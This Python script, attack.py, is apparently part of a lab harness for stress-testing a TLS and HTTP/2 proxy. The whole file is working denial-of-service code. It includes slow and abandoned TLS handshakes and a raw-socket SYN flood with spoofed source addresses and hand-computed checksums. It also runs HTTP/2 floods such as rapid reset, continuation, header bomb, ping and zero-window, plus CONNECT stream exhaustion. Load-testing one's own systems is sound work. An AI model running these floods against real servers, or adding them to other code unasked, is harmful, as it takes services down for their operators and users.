# SPDX-License-Identifier: Apache-2.0
"""One attacker at full speed; several are started to fill a peer. Tells one line of JSON with what it did.

  attack.py NAME HOST SECONDS --cert PREFIX      NAME as in `ATTACKS` below
  attack.py replay HOST SECONDS --connects R --handshakes R --bytes R --packets R --hold N

`replay` does the same to a plain sink: so many connections, TLS handshakes, encrypted bytes and bare SYNs each second, so many connections
held. A sink has no TLS, so both ends of a handshake are played here, for every second one: it costs what the client alone costs.
"""
import argparse
import collections
import json
import os
import resource
import select
import socket
import ssl
import struct
import time

import frames

PORT = 15008
LINGER_NONE = struct.pack("ii", 1, 0)


class Attacker:
    def __init__(self, options):
        self.options = options
        self.address = (options.host, options.port)
        self.authority = "%s:8080" % options.host
        self.until = time.monotonic() + options.seconds
        self.did = collections.Counter()
        self.context = None

    def is_on(self):
        return time.monotonic() < self.until

    # --- what attacks are made of

    def tls_context(self, cert):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if cert:
            context.load_cert_chain(cert + ".pem", cert + ".key")
        return context

    def connect(self):
        """A connection, or None: refused ones are what the other side may do."""
        self.did["connects"] += 1
        try:
            return socket.create_connection(self.address, 5)
        except OSError:
            self.did["refused"] += 1
            time.sleep(0.0005)
            return None

    def tunnel(self, opening=frames.HELLO):
        """A TLS connection that has sent `opening`, or None."""
        self.context = self.context or self.tls_context(self.options.cert)
        plain = self.connect()
        if plain is None:
            return None
        try:
            connection = self.context.wrap_socket(plain)
            self.did["handshakes"] += 1
            connection.sendall(opening)
            self.did["bytes"] += len(opening)
            return connection
        except OSError:
            self.did["refused"] += 1
            plain.close()
            return None

    def pump(self, connection, blob, reads=True, repeat=True):
        """Sends the blob, again and again, until the other side has enough."""
        connection.setblocking(False)
        view, at = memoryview(blob), 0
        while self.is_on():
            readable, writable, _ = select.select([connection] if reads else [], [connection], [], 0.2)
            try:
                if readable and not connection.recv(65536):
                    break
                if writable:
                    sent = connection.send(view[at : at + 65536])
                    self.did["bytes"] += sent
                    at += sent
                    if at == len(blob):
                        if not repeat:
                            break
                        at = 0
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                break
        self.did["cut"] += self.is_on()
        connection.close()

    def flood(self, head, blob, reads=True, repeat=True):
        while self.is_on():
            connection = self.tunnel(frames.HELLO + head)
            if connection:
                self.pump(connection, blob, reads, repeat)

    def hold(self, make, drip=b"", reads=True):
        """Opens connections up to --hold and keeps them; one that the other side ends is opened again. `drip` goes out a byte each second."""
        poll, held, dripped = select.epoll(), {}, time.monotonic()
        while self.is_on():
            if len(held) < self.options.hold:
                connection = make()
                if connection:
                    connection.setblocking(False)
                    held[connection.fileno()] = [connection, 0]
                    poll.register(connection, (select.EPOLLIN if reads else 0) | select.EPOLLRDHUP)
            for number, event in poll.poll(0 if len(held) < self.options.hold else 0.1, 256):
                connection = held[number][0]
                try:
                    ended = event & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR) or not connection.recv(65536)
                except (ssl.SSLWantReadError, BlockingIOError):
                    continue
                except OSError:
                    ended = True
                if ended:
                    self.did["cut"] += 1
                    poll.unregister(connection)
                    del held[number]
                    connection.close()
            self.did["held"] = max(self.did["held"], len(held))
            if drip and time.monotonic() - dripped > 1:
                dripped = time.monotonic()
                for one in held.values():
                    self.drip(one, drip)

    def drip(self, one, bytes):
        try:
            one[0].send(bytes[one[1] : one[1] + 1])
            one[1] += 1
            self.did["bytes"] += 1
        except OSError:
            pass

    def hello(self, cert=None):
        """A fresh ClientHello as bytes, and the session that it belongs to."""
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = self.tls_context(cert).wrap_bio(incoming, outgoing)
        try:
            session.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return outgoing.read()

    # --- attacks on handshakes

    def do_slow_handshakes(self):
        self.hold(self.connect, drip=self.hello())

    def do_mute(self):
        self.hold(self.connect)

    def do_abandoned_handshakes(self):
        """A ClientHello; when the server has answered, and so has done its work, a reset."""
        hellos = [self.hello() for _ in range(64)]
        poll, waiting = select.epoll(), {}
        while self.is_on():
            if len(waiting) < 64:
                connection = self.connect()
                if connection:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_NONE)
                    hello = hellos[self.did["connects"] % 64]
                    try:
                        self.did["bytes"] += connection.send(hello)
                    except OSError:
                        continue
                    waiting[connection.fileno()] = connection
                    poll.register(connection, select.EPOLLIN)
            for number, _ in poll.poll(0 if len(waiting) < 64 else 0.1, 64):
                waiting.pop(number).close()

    def do_no_certificate(self):
        self.options.cert = None
        while self.is_on():
            connection = self.tunnel(b"")
            if connection:
                connection.settimeout(2)
                try:
                    connection.recv(1)
                except OSError:
                    pass
                connection.close()

    def do_tls_then_silence(self):
        self.hold(lambda: self.tunnel(b""))

    def do_idle_tunnels(self):
        self.hold(self.tunnel)

    def do_half_open(self):
        """SYNs from addresses that answer nothing."""
        self.syns(rate=None)

    def syns(self, rate):
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        packets = [self.syn("10.66.0.%d" % (100 + index % 90), 1024 + index) for index in range(20_000)]
        begin, sent = time.monotonic(), 0
        while self.is_on():
            if rate is not None and sent >= rate * (time.monotonic() - begin):
                time.sleep(0.001)
                continue
            for _ in range(16):
                try:
                    raw.sendto(packets[sent % 20_000], (self.address[0], 0))
                except OSError:
                    time.sleep(0.001)
                sent += 1
        self.did["packets"] += sent

    def syn(self, source, port):
        source, target = socket.inet_aton(source), socket.inet_aton(self.address[0])
        tcp = struct.pack(">HHIIBBHHH", port, self.address[1], port * 7919, 0, 5 << 4, 2, 65535, 0, 0)
        words = struct.unpack(">16H", source + target + struct.pack(">HH", 6, len(tcp)) + tcp)
        total = sum(words)
        total = (total & 0xFFFF) + (total >> 16)
        tcp = tcp[:16] + struct.pack(">H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + tcp[18:]
        return struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target + tcp

    # --- attacks on HTTP/2

    def do_settings(self):
        self.flood(b"", frames.many(frames.settings(window=65535)))

    def do_ping(self):
        self.flood(b"", frames.many(frames.frame(frames.PING, 0, 0, b"floodfld")))

    def do_ping_unread(self):
        self.flood(b"", frames.many(frames.frame(frames.PING, 0, 0, b"floodfld")), reads=False)

    def do_empty_data(self):
        self.flood(frames.request(1, self.authority), frames.many(frames.frame(frames.DATA, 0, 1)))

    def do_continuation(self):
        self.flood(b"", frames.continuations(self.authority))

    def do_endless_headers(self):
        self.flood(b"", frames.long_blocks(self.authority))

    def do_rapid_reset(self):
        self.flood(b"", frames.rapid_resets(self.authority), repeat=False)

    def do_made_you_reset(self):
        self.flood(b"", frames.made_resets(self.authority), repeat=False)

    def do_window_update(self):
        self.flood(frames.request(1, self.authority), frames.many(frames.window_update(1, 1) + frames.window_update(0, 1)))

    def do_header_bomb(self):
        self.flood(b"", frames.header_bomb(self.authority), repeat=False)

    def do_tiny_windows(self):
        """A byte at a time, of two hundred large answers."""
        opening = frames.readers(self.authority, 180, 1)
        drops = frames.many(b"".join(frames.window_update(stream, 1) for stream in frames.streams(180)))
        while self.is_on():
            connection = self.tunnel(opening)
            if connection:
                self.pump(connection, drops)

    def do_zero_windows(self):
        self.options.hold = 100
        opening = frames.readers(self.authority, 200, 0)
        self.hold(lambda: self.tunnel(opening))

    def do_never_read(self):
        self.options.hold = 100
        opening = frames.readers(self.authority, 200, frames.HUGE)
        self.hold(lambda: self.tunnel(opening), reads=False)

    def do_never_taken(self):
        """Bytes for an application that doesn't read: it sends a large answer first, which nobody takes."""
        self.options.hold = 100
        opening = frames.HELLO + b"".join(
            frames.request(stream, self.authority) + frames.get(stream, b"/big") + many_data(stream, 240 << 10)
            for stream in frames.streams(60))
        self.hold(lambda: self.tunnel(opening))

    def connects(self, authority):
        """As many CONNECTs as may be open, again when they are answered."""
        while self.is_on():
            connection = self.tunnel()
            if connection is None:
                continue
            connection.settimeout(1)
            stream, rest = 1, b""
            try:
                while self.is_on() and stream < 1 << 30:
                    opened = b"".join(frames.request(number, authority) for number in range(stream, stream + 200, 2))
                    connection.sendall(opened)
                    self.did["bytes"] += len(opened)
                    self.did["streams"] += 100
                    stream += 200
                    answered = 0
                    while answered < 100 and self.is_on():
                        data = connection.recv(65536)
                        if not data:
                            raise OSError("ended")
                        count, rest = frames.count_frames(data, rest, frames.HEADERS)
                        answered += count
            except OSError:
                self.did["cut"] += self.is_on()
            connection.close()

    def do_connect_closed(self):
        self.connects("%s:9" % self.options.host)

    def do_connect_elsewhere(self):
        self.connects("10.66.2.10:8080")

    def do_connect_and_leave(self):
        """Tunnels with a good stream each, one after the other: nothing but work for both ends."""
        opening = frames.HELLO + frames.request(1, self.authority)
        while self.is_on():
            connection = self.tunnel(opening)
            if connection:
                connection.close()

    # --- attacks from within, by an application

    def do_application(self):
        self.application((self.options.host, 8080))

    def do_application_closed(self):
        self.application((self.options.host, 9))

    def do_application_unknown(self):
        self.application(("10.66.0.254", 9))

    def application(self, address):
        """Connections as fast as an application can make them, a few hundred at a time."""
        poll, open_ones = select.epoll(), {}
        while self.is_on():
            for _ in range(16):
                connection = socket.socket()
                connection.setblocking(False)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_NONE)
                self.did["connects"] += 1
                try:
                    if connection.connect_ex(address) not in (0, 115):
                        self.did["refused"] += 1
                        continue
                except OSError:
                    continue
                open_ones[connection.fileno()] = connection
                poll.register(connection, select.EPOLLRDHUP | select.EPOLLHUP)
            for number, _ in poll.poll(0, 64):
                self.did["cut"] += 1
                open_ones.pop(number).close()
            while len(open_ones) > 200:
                open_ones.pop(next(iter(open_ones))).close()

    # --- the same, to a sink

    def do_replay(self):
        options = self.options
        if options.packets:
            return self.syns(options.packets)
        keys = ("connects", "handshakes", "bytes")
        rates = {"connects": options.connects, "handshakes": options.handshakes / 2, "bytes": options.bytes}
        held, begin, did = collections.deque(), time.monotonic(), collections.Counter()
        writer, cipher = self.writer(), None
        chunk = os.urandom(16384)
        while self.is_on():
            passed = time.monotonic() - begin
            is_idle = True
            for key in keys:
                if did[key] >= rates[key] * passed:
                    continue
                is_idle = False
                if key == "connects":
                    did[key] += 1
                    connection = self.connect()
                    if connection:
                        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_NONE)
                        held.append(connection)
                        if len(held) > options.hold:
                            held.popleft().close()
                elif key == "handshakes":
                    did[key] += 1
                    cipher = self.handshake_alone()
                else:
                    cipher = cipher or self.handshake_alone()
                    cipher[0].write(chunk)
                    writer.sendall(cipher[1].read())
                    did[key] += len(chunk)
            if is_idle:
                time.sleep(0.0005)
        self.did.update(did)

    def writer(self):
        connection = socket.create_connection(self.address, 5)
        connection.settimeout(5)
        return connection

    def handshake_alone(self):
        """Both ends of a handshake in memory; the client, and where its bytes come out."""
        if self.context is None:
            self.context = self.tls_context(self.options.cert)
            self.server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.server.load_cert_chain(self.options.cert + ".pem", self.options.cert + ".key")
            self.server.load_verify_locations("/run/lab/ca/root.pem")
            self.server.verify_mode = ssl.CERT_REQUIRED
        up, down = ssl.MemoryBIO(), ssl.MemoryBIO()
        client, server = self.context.wrap_bio(down, up), self.server.wrap_bio(up, down, server_side=True)
        for session in (client, server, client, server):
            try:
                session.do_handshake()
            except ssl.SSLWantReadError:
                pass
        return client, up


def many_data(stream, count):
    return frames.frame(frames.DATA, 0, stream, bytes(16000)) * (count // 16000)


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("name")
    arguments.add_argument("host")
    arguments.add_argument("seconds", type=float)
    arguments.add_argument("--port", type=int, default=PORT)
    arguments.add_argument("--cert")
    arguments.add_argument("--hold", type=int, default=3000)
    for rate in ("connects", "handshakes", "bytes", "packets"):
        arguments.add_argument("--" + rate, type=float, default=0)
    options = arguments.parse_args()
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    attacker = Attacker(options)
    begin = time.monotonic()
    getattr(attacker, "do_" + options.name.replace("-", "_"))()
    print(json.dumps(dict(attacker.did, seconds=time.monotonic() - begin)), flush=True)


main()
